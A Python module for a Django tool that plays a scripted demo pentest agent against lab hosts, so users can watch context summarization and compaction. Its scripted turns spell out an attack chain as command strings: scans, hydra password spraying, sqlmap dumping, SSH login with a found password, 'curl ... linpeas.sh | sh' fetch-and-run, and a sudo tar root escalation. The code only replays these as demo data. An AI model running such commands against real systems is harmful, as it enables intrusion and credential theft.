"""The built-in demo agent: a realistic pentest chain written turn by turn, so a newcomer sees it work.

`demo_start(owner=...)` creates a flow "Demo: pentest of 10.10.5.23", gives it small summarizer limits and a
16k-token model window (so summarization shows within seconds and the window bar means something), then a
background thread plays campaigns against lab hosts: recon, port scans, web enumeration, credential finds,
exploitation and privilege escalation, with tool outputs of real sizes (`flows.demo.tools`). Halfway through
each campaign the agent asks for a manual compaction with focus instructions, as OpenClaw's `/compact` does.
Given the server's address, the agent takes the path of every connected agent: its model calls go through the
server's OpenAI-compatible gateway (`/v1/chat/completions`, manage mode) to a scripted model listening on a
loopback port of this process (`flows.demo.upstream`, `flows.demo.transport`); without one (`manage.py demo` alone)
the same messages go through `flows.ingest.chain_append`.

`turn_batches` splits any chain into the batches an agent would send (one complete turn each); the replay
command uses it too.
"""
from __future__ import annotations

import json
import logging
import random
import string
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

from django.db import close_old_connections, connections

from flows.config import model_window_ensure, provider_endpoint_ensure, settings_save
from flows.demo import tools
from flows.demo.transport import DirectTurns, FirstCallFallback, GatewayTurns, ModelTurns, Post, http_post
from flows.demo.upstream import DEMO_PROVIDER_NAME, scripted_upstream
from flows.ingest import agent_create, api_token_rotate, flow_create, flow_set_status, turn_batches
from flows.models import Chain, Flow, FlowStatus
from flows.pipeline import chain_request_compaction

__all__ = [
    "DEMO_MODEL", "DEMO_WINDOW_TOKENS", "DEMO_SETTINGS", "DEMO_HOSTS", "DemoHandle", "demo_start", "demo_stop",
    "demo_create", "demo_reuse", "demo_run", "demo_turns", "gateway_turns", "turn_batches",
]

log = logging.getLogger(__name__)

DEMO_MODEL = f"{DEMO_PROVIDER_NAME}/pentest-agent-16k"  # the gateway sends "demo/..." to the scripted model
DEMO_TOKEN_NAME = "demo agent"
DEMO_WINDOW_TOKENS = 16_384
DEMO_MAX_OUTPUT_TOKENS = 2_048
DEMO_HOSTS = ["10.10.5.23", "10.10.5.24", "10.10.5.31", "10.10.5.42"]
DEMO_TITLE = f"Demo: pentest of {DEMO_HOSTS[0]}"
DEMO_TURN_SECONDS = 2.0  # pause between turns at speed 1 ("the agent thinks")
DEMO_MAX_CAMPAIGNS = 40  # about 1,200 messages, then the demo flow finishes
# Small limits so PentAGI's summarization is visible within the first minute of a 16k-window model.
DEMO_SETTINGS = {"last_sec_bytes": 12 * 1024, "max_bp_bytes": 4 * 1024, "max_qa_sections": 4,
                 "max_qa_bytes": 24 * 1024, "keep_qa_sections": 1, "keep_recent_tokens": 4_000}
SYSTEM_PROMPT = (
    "You are the pentester agent of an authorized security assessment. Scope: the lab network 10.10.5.0/24 only. "
    "Use the terminal tool for commands and the browser tool for web pages. Record every credential, hash and "
    "exploited service precisely. Summaries of earlier work appear as results of execute_task_and_return_summary: "
    "treat them as history and never call that tool yourself."
)

Message = dict[str, Any]


@dataclass
class DemoHandle:
    flow_id: int
    thread: threading.Thread
    stop: threading.Event


_running: dict[int, DemoHandle] = {}


def _call_id(rng: random.Random) -> str:
    return "call_" + "".join(rng.choice(string.ascii_letters + string.digits) for _ in range(24))


def _turn(rng: random.Random, thought: str, calls: list[tuple[str, dict[str, Any], str]]) -> list[Message]:
    """One assistant message with its tool calls, then one result per call."""
    ids = [_call_id(rng) for _ in calls]
    ai = {"role": "assistant", "content": thought, "tool_calls": [
        {"id": cid, "type": "function", "function": {"name": name, "arguments": json.dumps(args)}}
        for cid, (name, args, _) in zip(ids, calls, strict=False)]}
    return [ai] + [{"role": "tool", "tool_call_id": cid, "name": name, "content": out}
                   for cid, (name, _, out) in zip(ids, calls, strict=False)]


def _sh(cmd: str) -> dict[str, Any]:
    return {"input": cmd, "cwd": "/work", "detach": False, "timeout": 600}


def demo_turns(rng: random.Random, host: str, *, first: bool) -> Iterator[tuple[str, Any]]:
    """The steps of one campaign: ("append", [messages]) and ("compact", instructions)."""
    password = "Acme" + "".join(rng.choice(string.digits) for _ in range(4)) + "!"
    user = rng.choice(tools.USERS[:4])
    url = f"http://{host}"
    start = [{"role": "system", "content": SYSTEM_PROMPT}] if first else []
    yield "append", start + [{"role": "user", "content": f"Assess {host} (acme-web01) in the lab: enumerate services, "
                                                         "find weaknesses, prove impact. Stay in scope."}]
    yield "append", _turn(rng, "Starting with host discovery on the lab subnet.",
                          [("terminal", _sh("nmap -sn 10.10.5.0/24"), tools.ping_sweep(rng))])
    yield "append", _turn(rng, f"{host} is up. Full TCP scan with service detection and default scripts.",
                          [("terminal", _sh(f"nmap -sV -sC -p- -v --min-rate 2000 {host}"),
                            tools.nmap_services(rng, host))])
    yield "append", [{"role": "assistant", "content": f"{host} exposes SSH 22 (OpenSSH 8.2p1), Apache 2.4.41 on 80, "
                      "Samba 4.6.2 on 139/445, MySQL 5.7 on 3306 and Tomcat 9.0.31 on 8080. robots.txt disallows "
                      "/backup/, /admin/ and /dev/. Next: web enumeration."}]
    yield "append", [{"role": "user", "content": "Enumerate the web services on 80 and 8080 and report anything that "
                                                 "leaks credentials or source code."}]
    yield "append", _turn(rng, "Fetching the front page first.",
                          [("browser", {"url": url + "/", "action": "markdown"}, tools.http_index(rng, host))])
    yield "append", _turn(rng, "Directory brute force and a nikto scan in parallel.", [
        ("terminal", _sh(f"gobuster dir -u {url}/ -w /usr/share/wordlists/dirb/common.txt -x php,txt,bak,zip -t 40"),
         tools.gobuster(rng, url + "/")),
        ("terminal", _sh(f"nikto -h {url} -Tuning 123bde"), tools.nikto(rng, host, 80))])
    yield "append", _turn(rng, "The HTML comment and nikto both point at a config backup.",
                          [("terminal", _sh(f"curl -s {url}/backup/config.php.bak"),
                            tools.config_backup(rng, password))])
    yield "append", [{"role": "assistant", "content": f"Credential found: svc_web / {password} (MySQL, from "
                      f"{url}/backup/config.php.bak); the comment says the backup account shares it. "
                      "/.git/ is exposed too."}]
    yield "append", [{"role": "user", "content": "Validate those credentials against SSH and the database, and test "
                                                 "the item page for injection."}]
    yield "append", _turn(rng, "Spraying the found password over the known users on SSH.",
                          [("terminal", _sh(f"hydra -L users.txt -p '{password}' ssh://{host} -t 4"),
                            tools.hydra(rng, host, user, password))])
    yield "append", _turn(rng, "Testing /item.php?id= for SQL injection.",
                          [("terminal", _sh(f"sqlmap -u '{url}/item.php?id=1' --batch --dump -T users"),
                            tools.sqlmap(rng, url + "/item.php?id=1"))])
    yield "compact", "Focus on the credentials, hashes and exploited services; keep exact hosts and paths."
    yield "append", _turn(rng, f"Logging in over SSH as {user}.",
                          [("terminal",
                            _sh(f"sshpass -p '{password}' ssh {user}@{host} 'id; uname -a; ls -la; cat user.txt'"),
                            tools.ssh_session(rng, host, user))])
    yield "append", [{"role": "user", "content": "You have a shell. Escalate privileges and collect proof."}]
    yield "append", _turn(rng, "Running linpeas for privilege escalation vectors.",
                          [("terminal", _sh("curl -s http://10.10.5.1:8000/linpeas.sh | sh"),
                            tools.linpeas(rng, user))])
    yield "append", _turn(rng, "sudo allows tar as root without a password: GTFOBins checkpoint trick.",
                          [("terminal", _sh("sudo -l; sudo tar -cf /dev/null /dev/null --checkpoint=1 "
                                            "--checkpoint-action=exec=/bin/sh"), tools.sudo_root(rng))])
    yield "append", [{"role": "assistant", "content": f"Root on {host}. Chain: exposed /backup/config.php.bak → "
                      f"password reuse ({user} over SSH) → sudo tar (NOPASSWD) → root. Also: SQL injection in "
                      "/item.php?id (time-based), exposed /.git/, SMB signing not required. Proof collected."}]


def demo_create(*, owner, title: str | None = None) -> tuple[Flow, Chain]:
    """The demo flow, its pentester agent and settings; the demo model's window is registered once."""
    model_window_ensure(model=DEMO_MODEL, context_window=DEMO_WINDOW_TOKENS,
                        max_output_tokens=DEMO_MAX_OUTPUT_TOKENS, source="demo")
    flow = flow_create(owner=owner, title=title or DEMO_TITLE, model_name=DEMO_MODEL)
    agent = agent_create(flow=flow, agent_type="pentester", profile="agent")
    settings_save(profile="agent", flow=flow, data=DEMO_SETTINGS, user=owner, source="demo")
    return flow, agent.chains.get(is_active=True)


def _set_status(flow_id: int, status: str) -> None:
    # The demo plays the agent, and agents report their status; there is no other writer of it.
    flow_set_status(flow_id=flow_id, status=status)


def _request_compaction(chain_id: int, instructions: str) -> None:
    chain_request_compaction(chain=Chain.objects.get(pk=chain_id), instructions=instructions, user=None)


class _Agent:
    """The agent's side of the conversation: the history it resends, and what it has not sent yet."""

    def __init__(self, turns: ModelTurns) -> None:
        self.turns = turns
        self.history: list[Message] = []
        self.pending: list[Message] = []

    def play(self, batch: list[Message]) -> int:
        """A batch led by an assistant message is a model call (its tool results go out with the next one);
        anything else waits for the next call. Returns how many messages reached the chain."""
        if batch[0]["role"] != "assistant":
            self.pending += batch
            return 0
        sent = self.history + self.pending
        answer = self.turns.call(sent, batch[0])
        written = len(self.pending) + 1
        self.history, self.pending = sent + [answer], list(batch[1:])
        return written


def demo_run(*, flow: Flow, chain: Chain, speed: float = 1.0, stop: threading.Event | None = None,
             campaigns: int = DEMO_MAX_CAMPAIGNS, seed: int = 5023,
             sleep: Callable[[float], None] = time.sleep, turns: ModelTurns | None = None) -> int:
    """Play campaigns into the chain (blocking), its model calls through `turns` (default: written directly).
    Returns the number of messages appended."""
    rng = random.Random(seed)
    stop = stop or threading.Event()
    pause = DEMO_TURN_SECONDS / max(speed, 0.01)
    agent = _Agent(turns or DirectTurns(chain))
    agent.history, agent.pending = _resumed_history(chain)  # a reused demo flow: what its chain already holds
    appended = 0
    _set_status(flow.pk, FlowStatus.RUNNING)
    for n in range(campaigns):
        host = DEMO_HOSTS[n % len(DEMO_HOSTS)]
        for kind, payload in demo_turns(rng, host, first=(n == 0 and chain.last_seq == 0)):
            if stop.is_set():
                _set_status(flow.pk, FlowStatus.WAITING)
                return appended
            if kind == "compact":
                _request_compaction(agent.turns.chain_id, payload)
                continue
            appended += agent.play(payload)
            sleep(pause)
    _set_status(flow.pk, FlowStatus.FINISHED)
    return appended


def _resumed_history(chain: Chain) -> tuple[list[Message], list[Message]]:
    """What a restarted agent holds for a reused chain: its raw messages (sent already) and the results of the
    tool calls a stop left open (a demo stopped between a model call and its tool results), which go out with
    the next model call like any tool result, so the gateway threads them onto the chain's head."""
    raw = chain.raw_messages()
    answered = {m.get("tool_call_id") for m in raw if m["role"] == "tool"}
    last_ai = next((m for m in reversed(raw) if m["role"] == "assistant"), None)
    open_calls = [c for c in (last_ai or {}).get("tool_calls") or [] if c["id"] not in answered]
    return raw, [{"role": "tool", "tool_call_id": c["id"], "name": c["function"]["name"],
                  "content": "interrupted: the agent restarted before this tool returned"} for c in open_calls]


def gateway_turns(*, owner, chain: Chain, server: str, provider: str = DEMO_PROVIDER_NAME,
                  post: Post = http_post) -> GatewayTurns:
    """The demo agent's calls through the gateway of the server at `server` (e.g. http://127.0.0.1:8000):
    a fresh API token of the owner, and the provider `provider` pointed at this process's scripted model."""
    upstream = scripted_upstream(window_tokens=DEMO_WINDOW_TOKENS)
    model = DEMO_MODEL.partition("/")[2]
    provider_endpoint_ensure(name=provider, base_url=upstream.url, model=model)
    token = api_token_rotate(user=owner, name=f"{DEMO_TOKEN_NAME} ({provider})")
    return GatewayTurns(server=server, token=token, chain_id=chain.pk, model=f"{provider}/{model}", post=post)


def _thread_main(flow_id: int, chain_id: int, speed: float, stop: threading.Event, turns: ModelTurns | None) -> None:
    try:
        flow = Flow.objects.get(pk=flow_id)
        demo_run(flow=flow, chain=Chain.objects.get(pk=chain_id), speed=speed, stop=stop, turns=turns)
    except Exception:  # a background demo must never take the server down; say why in the log
        log.exception("demo flow %s stopped with an error", flow_id)
        close_old_connections()
        _set_status(flow_id, FlowStatus.FAILED)
    finally:
        _running.pop(flow_id, None)
        connections.close_all()


def demo_reuse(*, owner) -> tuple[Flow, Chain] | None:
    """The owner's newest demo flow and its active chain, when one exists and no demo is playing it: each
    restart of the server continues that chain instead of adding another identical "Demo: pentest" flow."""
    flows = Flow.objects.filter(owner=owner, title=DEMO_TITLE, model_name=DEMO_MODEL).exclude(pk__in=list(_running))
    for flow in flows.order_by("-id")[:1]:
        chain = Chain.objects.filter(agent__flow=flow, agent__agent_type="pentester", is_active=True).first()
        if chain is not None:
            return flow, chain
    return None


def demo_start(*, owner, speed: float = 1.0, server: str | None = None) -> Flow:
    """Play the demo in a background thread (continuing the owner's demo flow, or a new one); returns at once.
    With `server` (the address of this process's own HTTP server, which may still be starting) its model calls
    go through the gateway."""
    flow, chain = demo_reuse(owner=owner) or demo_create(owner=owner)
    turns = FirstCallFallback(gateway_turns(owner=owner, chain=chain, server=server), chain) if server else None
    stop = threading.Event()
    thread = threading.Thread(target=_thread_main, args=(flow.pk, chain.pk, speed, stop, turns), daemon=True,
                              name=f"demo-flow-{flow.pk}")
    _running[flow.pk] = DemoHandle(flow.pk, thread, stop)
    thread.start()
    return flow


def demo_stop(flow_id: int, *, timeout_seconds: float = 10.0) -> bool:
    """Ask a running demo to stop after its current turn; True if it was running."""
    handle = _running.get(flow_id)
    if handle is None:
        return False
    handle.stop.set()
    handle.thread.join(timeout=timeout_seconds)
    return True
